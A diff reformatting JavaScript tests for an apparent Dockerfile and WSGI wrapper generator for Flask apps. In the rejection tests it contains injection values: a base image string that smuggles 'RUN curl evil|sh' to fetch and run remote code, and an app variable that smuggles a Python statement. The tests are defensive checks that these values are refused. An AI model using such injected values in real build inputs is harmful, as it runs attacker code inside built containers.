@@ -29,11 +29,22 @@ describe('generated Dockerfile', () => {
 
   test('installs flask and gunicorn with pip when the base image does not carry them', () => {
     const text = renderDockerfile({ containerPort: 5000, hasRequirements: false });
-    assert.match(text, /RUN \["python3", "-m", "pip", "install", "--no-cache-dir", "flask==3\.1\.\*", "gunicorn==23\.\*"\]/);
+    assert.match(
+      text,
+      /RUN \["python3", "-m", "pip", "install", "--no-cache-dir", "flask==3\.1\.\*", "gunicorn==23\.\*"\]/,
+    );
   });
 
   test('refuses a base image or port that is not valid', () => {
-    assert.throws(() => renderDockerfile({ baseImage: 'python\nRUN curl evil|sh', containerPort: 5000, hasRequirements: false }), InputError);
+    assert.throws(
+      () =>
+        renderDockerfile({
+          baseImage: 'python\nRUN curl evil|sh',
+          containerPort: 5000,
+          hasRequirements: false,
+        }),
+      InputError,
+    );
     assert.throws(() => renderDockerfile({ containerPort: 0, hasRequirements: false }), InputError);
   });
 
@@ -41,15 +52,33 @@ describe('generated Dockerfile', () => {
     const wrapper = renderWsgiWrapper({ appVariable: 'server', appHasHealthRoute: false });
     assert.match(wrapper, /^from app import server as _app$/m);
     assert.match(wrapper, /_APP_HAS_HEALTH_ROUTE = False/);
-    assert.match(renderWsgiWrapper({ appVariable: 'app', appHasHealthRoute: true }), /_APP_HAS_HEALTH_ROUTE = True/);
-    assert.throws(() => renderWsgiWrapper({ appVariable: 'app; import os', appHasHealthRoute: false }), InputError);
+    assert.match(
+      renderWsgiWrapper({ appVariable: 'app', appHasHealthRoute: true }),
+      /_APP_HAS_HEALTH_ROUTE = True/,
+    );
+    assert.throws(
+      () => renderWsgiWrapper({ appVariable: 'app; import os', appHasHealthRoute: false }),
+      InputError,
+    );
   });
 
   test('writes the build context folder', async () => {
     const dir = await mkdtemp(join(tmpdir(), 'ashapp-ctx-test-'));
     try {
-      await writeBuildContext({ dir, code: 'x = 1\n', requirements: 'flask\n', appVariable: 'app', appHasHealthRoute: false, containerPort: 5000 });
-      assert.deepEqual((await readdir(dir)).sort(), ['Dockerfile', 'app.py', 'ashapp_wsgi.py', 'requirements.txt']);
+      await writeBuildContext({
+        dir,
+        code: 'x = 1\n',
+        requirements: 'flask\n',
+        appVariable: 'app',
+        appHasHealthRoute: false,
+        containerPort: 5000,
+      });
+      assert.deepEqual((await readdir(dir)).sort(), [
+        'Dockerfile',
+        'app.py',
+        'ashapp_wsgi.py',
+        'requirements.txt',
+      ]);
       assert.equal(await readFile(join(dir, 'app.py'), 'utf8'), 'x = 1\n');
     } finally {
       await rm(dir, { recursive: true, force: true });
